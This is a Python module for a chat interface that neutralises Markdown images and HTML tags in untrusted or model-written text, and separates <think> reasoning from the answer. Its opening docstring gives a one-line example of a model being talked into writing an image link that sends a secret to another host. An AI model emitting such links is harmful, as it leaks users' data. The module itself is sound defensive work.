"""Text that others wrote, made harmless before it reaches the page: no tag, no picture, no request to another host.

A model may be talked into writing `![](https://elsewhere/?secret)`, and the chat shows Markdown: the browser would fetch
it. So pictures become links and tags become text. Code stays code. This file knows no gradio and no model.
"""

import html
import re
from dataclasses import dataclass

from markdown_it import MarkdownIt

_PICTURE = re.compile(r"!+\[")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_INLINE_CODE = re.compile(r"(?<![\\`])(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.DOTALL)
_BLOCK_MATH = re.compile(r"\$\$|\\\[|\\\(|\$")
_THINKING = re.compile(r"\s*<think>(.*?)(</think>|\Z)", re.DOTALL)


def escape(text: object) -> str:
    """`text` for the inside of an element or of a quoted attribute."""
    return html.escape(str(text), quote=True)


def markdown(text: str) -> str:
    """Markdown with the same words whose pictures are links and whose tags are text.

    Fenced code is left as it is, so that it can be coloured and copied. Where formulas could make a reader of Markdown
    see the fences elsewhere than we do, it is written as escaped HTML instead.
    """
    if "<" not in text and "![" not in text:
        return text
    lines = text.split("\n")
    parts: list[str] = []
    done = 0
    for first, last in _fences(text):
        parts.append(_prose("\n".join(lines[done:first])))
        block = "\n".join(lines[first:last])
        parts.append(_code_as_html(lines[first:last]) if _BLOCK_MATH.search(text.replace(block, "")) else block)
        done = last
    parts.append(_prose("\n".join(lines[done:])))
    return "\n".join(part for index, part in enumerate(parts) if part or 0 < index < len(parts) - 1)


def _fences(text: str) -> list[tuple[int, int]]:
    """The line ranges of fenced code at the outermost level, as CommonMark sees them."""
    if "```" not in text and "~~~" not in text:
        return []
    tokens = MarkdownIt("commonmark", {"html": False}).parse(text)
    return [(t.map[0], t.map[1]) for t in tokens if t.type == "fence" and t.level == 0 and t.map is not None]


def _prose(text: str) -> str:
    parts = []
    done = 0
    for found in _INLINE_CODE.finditer(text):
        code = found[2]
        parts.append(_no_fetch(text[done : found.start()]))
        parts.append(f"<code>{_entities(code.strip())}</code>" if "<" in code or "![" in code else found[0])
        done = found.end()
    return "".join([*parts, _no_fetch(text[done:])])


def _no_fetch(text: str) -> str:
    return _TAG.sub("&lt;", _PICTURE.sub("[", text))


def _code_as_html(lines: list[str]) -> str:
    return f"<pre><code>{_entities(chr(10).join(lines[1:]).rstrip('`~ '))}</code></pre>"


def _entities(code: str) -> str:
    """Every character that could mean something to Markdown, KaTeX or HTML as its number."""
    return "".join(c if c.isalnum() or c == " " or ord(c) > 127 else f"&#{ord(c)};" for c in code)


@dataclass(frozen=True)
class Thought:
    """An answer in two parts: what the model thought aloud and what it says. `is_open`: it still thinks."""

    thinking: str
    answer: str
    is_open: bool


def split_thinking(text: str) -> Thought:
    """Take `<think>…</think>` off the front of an answer."""
    found = _THINKING.match(text)
    if found is None:
        return Thought("", text, False)
    return Thought(found[1].strip(), text[found.end() :].lstrip(), not found[2])
